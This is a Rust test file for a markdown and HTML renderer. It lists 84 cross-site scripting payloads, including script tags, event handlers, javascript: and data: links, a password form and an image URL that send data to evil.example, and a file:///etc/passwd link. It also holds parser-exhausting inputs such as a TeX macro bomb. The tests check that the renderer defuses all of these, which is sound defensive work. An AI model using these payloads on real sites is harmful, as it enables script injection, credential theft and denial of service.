//! Attacks: script in every disguise, and text made to keep the machine busy.

use std::time::{Duration, Instant};

use super::elements::assert_safe;
use super::{StreamRenderer, html, markdown, screen};

/// Each of these runs something, loads something or breaks out somewhere, if let through.
const ATTACKS: [&str; 84] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<style>@import url(//evil.example)</style>",
    "<div style=\"background:url(https://evil.example)\">x</div>",
    "<form action=https://evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\"><mi>x</mi></math>",
    "<math><maction actiontype=\"statusline#https://evil.example\">x</maction></math>",
    "<img srcset=\"https://evil.example/x 1x\">",
    "<picture><source srcset=https://evil.example/x></picture>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a id=__next href=x name=body>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](java\u{0}script:alert(1))",
    "[x](\u{a0}javascript:alert(1))",
    "[x](javascript\u{ff1a}alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](DATA:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](jar:javascript:alert(1)!/)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:\"onmouseover=alert(1)//x)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[x](https://a.example \"x\\\" onmouseover=\\\"alert(1)\")",
    "[\"><script>alert(1)</script>](https://a.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]:\njavascript:alert(1)\n\n[x][x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "https://a.example/\"onmouseover=alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "![x](javascript:alert(1))",
    "![\"onerror=\"alert(1)](https://evil.example/x.png)",
    "![x](https://evil.example/?leak=secret)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```rust onmouseover=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> | [x](javascript:1) |\n|---|---|\n| <img src=x onerror=1> | b |",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<script>alert(1)</script>}$ $\\class{x\" onload=\"1}{y}$",
    "$$\\style{background:url(https://evil.example)}{x} \\unicode{x3c}script\\unicode{x3e} \\begin{array}{\"onload=1}x\\end{array}$$",
];

#[test]
fn nothing_runs_and_nothing_loads() {
    for attack in ATTACKS {
        for wrapped in [
            attack.to_owned(),
            format!("text {attack} text"),
            format!("- {attack}\n"),
            format!("> {attack}\n"),
            format!("# {attack}\n"),
            format!("**{attack}**"),
            format!("| {attack} |\n|---|\n| {attack} |\n"),
        ] {
            assert_safe(&html(&wrapped), &wrapped);
            for (end, _) in wrapped.char_indices() {
                assert_safe(&screen(&wrapped[..end]), &wrapped[..end]);
            }
        }
    }
}

#[test]
fn schemes_that_are_not_followed_leave_text() {
    for attack in ATTACKS.iter().filter(|it| it.starts_with("[x](")) {
        let shown = html(attack);
        let followed = shown.contains("href=\"") && !shown.contains("href=\"https://a.example");
        assert!(!followed, "{attack}: {shown}");
    }
}

#[test]
fn hosts_are_shown_as_the_browser_resolves_them() {
    let shown = html("[click](https://google.com@evil.example/)");
    assert!(
        shown.contains("<span class=\"link-host\">evil.example</span>"),
        "{shown}"
    );
    let shown = html("[аpple.com](https://аpple.com)");
    assert!(shown.contains("<span class=\"link-host\">xn--"), "{shown}");
    let shown = html("[x](https://[::1]/)");
    assert!(
        shown.contains("<span class=\"link-host\">[::1]</span>"),
        "{shown}"
    );
}

fn within(limit: Duration, name: &str, text: &str) {
    let begun = Instant::now();
    let blocks = markdown(text);
    let whole = begun.elapsed();
    let size: usize = blocks.iter().map(String::len).sum();
    println!(
        "{name}: {} kB in {whole:?}, {} kB out",
        text.len() / 1000,
        size / 1000
    );
    assert!(whole < limit, "{name} took {whole:?}");
    assert!(size < 64 * 1024 * 1024, "{name} grew to {size} bytes");
    for block in blocks.iter().take(3) {
        assert_safe(block, name);
    }
    let begun = Instant::now();
    let shown = screen(text);
    assert!(
        begun.elapsed() < limit,
        "{name} open took {:?}",
        begun.elapsed()
    );
    assert!(shown.len() < 96 * 1024 * 1024, "{name} open");
}

#[test]
fn text_made_to_be_slow_is_not() {
    let limit = Duration::from_secs(8);
    let long = 48_000;
    let cases = [
        ("brackets", "[".repeat(long)),
        ("images", "![".repeat(long / 2)),
        ("closed brackets", "[a](".repeat(long / 4)),
        (
            "nested links",
            format!("{}a{}", "[".repeat(long / 2), "](x)".repeat(long / 8)),
        ),
        ("stars", "*".repeat(long)),
        ("stars and letters", "*a".repeat(long / 2)),
        ("strong pairs", "**a *b ".repeat(long / 7)),
        ("underscores", "_a __b ".repeat(long / 7)),
        ("backticks", "`a``b```c".repeat(long / 9)),
        (
            "growing backticks",
            (1..450).map(|it| "`".repeat(it) + " ").collect(),
        ),
        ("dollars", "$a ".repeat(long / 3)),
        ("dollar braces", "${".repeat(long / 2)),
        ("quotes", ">".repeat(long)),
        ("quoted lines", "> > > > > > > > > >\n".repeat(long / 20)),
        ("lists", "- ".repeat(long / 2)),
        ("numbers", "1. ".repeat(long / 3)),
        (
            "deep lists",
            (0..400).map(|it| "  ".repeat(it) + "- a\n").collect(),
        ),
        ("angles", "<".repeat(long)),
        ("comments", "<!--".repeat(long / 4)),
        ("tags", "<a ".repeat(long / 3)),
        ("instructions", "<?".repeat(long / 2)),
        ("entities", "&#x".repeat(long / 3)),
        ("escapes", "\\".repeat(long)),
        ("open math", "\\(".repeat(long / 2)),
        ("open display", "\\[ a ".repeat(long / 5)),
        (
            "wide table",
            format!(
                "{}\n{}\n{}",
                "|a".repeat(9_000),
                "|-".repeat(9_000),
                "|\n".repeat(9_000)
            ),
        ),
        (
            "long table",
            format!("|a|b|\n|-|-|\n{}", "|1|2|\n".repeat(long / 6)),
        ),
        (
            "definitions",
            (0..6000)
                .map(|it| ["[a", &it.to_string(), "]: https://a.example/\n"].concat())
                .collect(),
        ),
        (
            "references",
            format!(
                "[a]: https://a.example/{}\n\n{}",
                "x".repeat(1000),
                "[a] ".repeat(long / 4)
            ),
        ),
        ("addresses", "https://a.example/x".repeat(long / 19)),
        ("address parts", "https://a.example ".repeat(long / 18)),
        (
            "parentheses",
            format!("https://a.example/{}", ")".repeat(long)),
        ),
        ("one line", "a".repeat(300_000)),
        ("paragraphs", "a\n\n".repeat(30_000)),
        ("formulas", "$$x$$\n\n".repeat(4_000)),
        ("paragraph and formula", "a\n\n$$x$$\n".repeat(4_000)),
        ("fences", "```\n".repeat(40_000)),
        (
            "long code",
            format!("```rust\n{}", "let a = 1; // x\n".repeat(100_000)),
        ),
        (
            "dense code",
            format!("```rust\n{}", "a+(b)-\"c\";".repeat(40_000)),
        ),
        ("code escapes", format!("```c\n\"{}", "\\a".repeat(60_000))),
        ("code comments", format!("```rust\n{}", "/*".repeat(30_000))),
        ("code spaces", format!("```yaml\n{}", "- ".repeat(30_000))),
        ("carriage returns", "\r".repeat(long)),
        ("too long", "word ".repeat(430_000)),
        ("big formula", format!("$${}$$", "\\sqrt{".repeat(600))),
        ("many fractions", format!("$${}$$", "\\frac".repeat(800))),
        ("scripts", format!("$${}$$", "x^{".repeat(1300))),
        ("spaced scripts", format!("$${}$$", "x^{ ".repeat(1000))),
        ("indices of roots", format!("$${}$$", "\\sqrt[".repeat(600))),
        ("bare roots", format!("$${}$$", "\\sqrt ".repeat(600))),
        ("lefts", format!("$${}$$", "\\left(".repeat(600))),
        (
            "macro bomb",
            format!(
                "$$\\def\\a{{xx}}{}$$",
                "\\def\\b{\\a\\a}\\let\\a\\b".repeat(30)
            ),
        ),
    ];
    for (name, text) in cases {
        within(limit, name, &text);
    }
}

#[test]
fn an_endless_answer_is_cut_and_says_so() {
    let mut renderer = StreamRenderer::new();
    for _ in 0..300 {
        renderer.push(&"many words ".repeat(1000));
    }
    let (blocks, source) = renderer.finish();
    assert!(source.len() <= super::super::ANSWER_MAX_BYTES);
    assert!(blocks.last().unwrap().contains("was cut here"));
}

#[test]
fn many_small_pieces_cost_what_the_open_block_costs() {
    let paragraph =
        "Words of an answer that goes on and on, with **some** `markup` in it. ".repeat(6);
    let mut renderer = StreamRenderer::new();
    let (mut first, mut last) = (Duration::MAX, Duration::MAX);
    for round in 0..400 {
        let begun = Instant::now();
        for piece in paragraph.as_bytes().chunks(20) {
            renderer.push(std::str::from_utf8(piece).unwrap());
            let _ = renderer.open();
        }
        renderer.push("\n\n");
        match round {
            20..60 => first = first.min(begun.elapsed()),
            360..400 => last = last.min(begun.elapsed()),
            _ => {}
        }
    }
    println!("a paragraph at the start {first:?}, at the end {last:?}");
    assert!(last < first * 4, "{first:?} grew to {last:?}");
}
